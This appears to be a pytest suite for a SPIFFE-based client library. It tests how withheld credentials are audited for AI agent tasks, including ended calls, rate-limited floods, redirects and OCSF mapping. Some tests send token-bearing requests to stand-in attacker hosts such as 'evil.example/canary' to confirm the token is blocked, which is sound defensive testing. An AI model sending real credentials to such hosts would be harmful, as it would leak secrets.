"""What a call hands out and is not given, or not sent, is told: to its own host's audit, and as no flood."""

from __future__ import annotations

from collections.abc import AsyncIterator
from typing import Any

import anyio.to_thread
import httpx
import pytest
from tests.support.agent_pair import ORDER, Pair, pair_of_agents
from tests.support.agent_world import AgentWorld

from spiffe_client.agents import Task
from spiffe_client.agents._records import record_ignored
from spiffe_client.audit import Event, to_ocsf
from spiffe_client.errors import TaskEndedError, TaskError, TokenOriginError
from spiffe_client.http._withheld import Withheld
from spiffe_client.tokens._origin import Origin

pytestmark = pytest.mark.anyio

EVENT = "credential.withheld"


@pytest.fixture
async def pair(anyio_backend: str) -> AsyncIterator[Pair]:
    async with pair_of_agents() as pair:
        yield pair


def task_of(world: AgentWorld) -> Task:
    return world.host.task("close the March books", ["summarize", "invoices:read"], tenant="acme")


async def test_once_for_each_reason(world: AgentWorld) -> None:
    """Who asks a call that has ended again and again is told of once while its task goes on, and once after that."""
    async with task_of(world) as task:
        async with task.call("invoices:read", "tenants/acme/invoices/7") as call:
            pass
        for _ in range(3):
            with pytest.raises(TaskError, match="has ended"):
                _ = call.http
    for _ in range(3):
        with pytest.raises(TaskEndedError):
            _ = call.auth
    first, second = world.told(EVENT)
    assert ("call_ended", "task_ended") == (first["reason"], second["reason"])
    assert (task.id, call.id, "invoices:read", "acme", "deny", "denied") == tuple(
        first[name] for name in ("task", "call", "action", "tenant", "decision", "outcome")
    )
    assert not {"duration_ms", "origin"} & first.keys()
    assert 0 == world.told("task.ended")[0]["denied"], "it was a call once, and let in"


async def test_one_that_runs_has_a_record_of_its_own(world: AgentWorld) -> None:
    """Its task ends inside, which `call.finished` says: that is one event, and not two."""
    with pytest.raises(TaskEndedError):
        async with task_of(world) as task, task.call("summarize") as call:
            task.end("deadline")
            with pytest.raises(TaskEndedError):
                call.refuse()
            await anyio.sleep_forever()
    assert ([], ["deadline"]) == (world.told(EVENT), [facts["ended"] for facts in world.told("call.finished")])


async def test_cancelled_by_its_caller_alone(world: AgentWorld) -> None:
    """Then its task has not ended, and nothing is said of that."""
    async with task_of(world) as task:
        with anyio.CancelScope() as scope:
            async with task.call("summarize"):
                scope.cancel()
                await anyio.sleep_forever()
    (facts,) = world.told("call.finished")
    assert ("cancelled", None) == (facts["outcome"], facts.get("ended"))


async def test_attack_a_flood_of_calls_that_never_began(world: AgentWorld) -> None:
    """They cost their task nothing, so they are told like tickets: sixty a minute, and how many there were."""
    async with task_of(world) as task:
        for _ in range(300):
            with pytest.raises(TaskError):
                _ = task.call("summarize").http
        assert 60 == len(world.told(EVENT))
        world.clock._elapsed += 61
        with pytest.raises(TaskError):
            _ = task.call("summarize").http
    assert 240 == world.told(EVENT)[-1]["untold"]


@pytest.mark.parametrize("blocking", [False, True])
async def test_another_origin(pair: Pair, blocking: bool) -> None:
    """Directly, and by redirects that are followed: an origin is told, and nothing else of an address."""
    there = pair.broker.issuer
    origin = str(httpx.URL(there).copy_with(path="/")).rstrip("/")

    def options(to: str) -> dict[str, Any]:
        return {"url": f"{pair.service.url}/redirect", "params": {"to": to}, "follow_redirects": True}

    async with pair.task() as task:
        async with task.call("orders:read", ORDER) as one, task.call("orders:read", ORDER) as two:
            evil = f"https://user:canary@EVIL.example:8443/{'canary' * 99}?canary"
            with pytest.raises(TokenOriginError):
                if blocking:
                    await anyio.to_thread.run_sync(lambda: one.http_sync.get(evil))
                else:
                    await one.http.get(evil)
            for to in (f"{pair.service.url}/v1/orders", f"{there}/canary"):
                if blocking:
                    await anyio.to_thread.run_sync(lambda to=to: two.http_sync.get(**options(to)))
                else:
                    await two.http.get(**options(to))
    assert [(one.id, "https://evil.example:8443", "token_origin"), (two.id, origin, "token_origin")] == [
        (facts["call"], facts["origin"], facts["reason"]) for facts in pair.told(EVENT)
    ]
    assert not any("canary" in repr(event) for event in pair.audit)


async def test_an_answer_that_is_not_taken(world: AgentWorld) -> None:
    """Whose it would have been; nobody has decided about the call, so it is no denial."""
    async with task_of(world) as task:
        call = task.call("summarize")
        record_ignored(call, "answer_used")
    (facts,) = world.told("approval.ignored")
    assert (task.id, call.id, "summarize", "answer_used") == tuple(
        facts[name] for name in ("task", "call", "action", "reason")
    )
    assert not {"decision", "outcome", "duration_ms"} & facts.keys()


async def test_without_an_agent(pair: Pair) -> None:
    """A token that no call has asked for goes nowhere else either, and the workload's audit has it, without a task."""
    auth = pair.closer.auth("orders:read", audience=pair.service.url)
    async with httpx.AsyncClient(auth=auth) as http:
        with pytest.raises(TokenOriginError):
            await http.get("https://evil.example/canary")
    (facts,) = pair.told(EVENT)
    assert ("token_origin", "https://evil.example", pair.service.url, "deny") == tuple(
        facts[name] for name in ("reason", "origin", "audience", "decision")
    )
    assert not {"task", "call"} & facts.keys()


def test_attack_origins_without_end() -> None:
    """Each is told once, and no more of them than are remembered; the last one says that it is the last."""
    told: list[Event] = []
    withheld = Withheld(["https://orders.example"], told.append)
    for number in [*range(100), *range(100)]:
        withheld.tell(Origin("https", f"{number}.example", 443))
    assert 64 == len({event.attributes["origin"] for event in told}) == len(told)
    assert [number == 63 for number in range(64)] == ["no more is told" in event.message for event in told]


def test_in_a_siem() -> None:
    """It is a denial, with its reason."""
    event = Event(EVENT, "no", {"decision": "deny", "reason": "token_origin", "outcome": "denied", "task": "t"})
    mapped = to_ocsf(event, at=AgentWorld().clock.now())
    assert ("Authentication", "Denied", "token_origin") == tuple(
        mapped[name] for name in ("class_name", "action", "status_code")
    )
